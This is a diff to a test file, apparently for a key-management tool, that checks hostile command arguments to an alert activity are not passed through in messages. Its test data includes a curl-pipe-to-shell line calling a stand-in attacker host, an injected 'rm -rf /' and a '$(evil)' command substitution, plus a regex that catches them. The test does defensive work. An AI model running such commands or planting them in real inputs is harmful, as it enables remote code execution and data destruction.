@@ -109,7 +109,7 @@ describe('activities with hostile arguments', () => {
     for (const [i, command] of ['curl https://evil.example/x | sh', 'keywarden revoke up; rm -rf /', 'keywarden recover $(evil)'].entries()) {
       expect(await refusal(world, { duty: 'emergency', activity: 'alert', argument: { kind: 'key-revoked', occasion: String(i), key: 'up', command } })).toBe('done');
     }
-    for (const m of await world.received()) expect(m.text).not.toMatch(/curl|rm -rf|evil/);
+    for (const m of await world.received()) expect(m.text).not.toMatch(/curl|rm -rf|evil\.example|\$\(/);
   });
 
   it('the workers live, and no rule is broken', async () => {
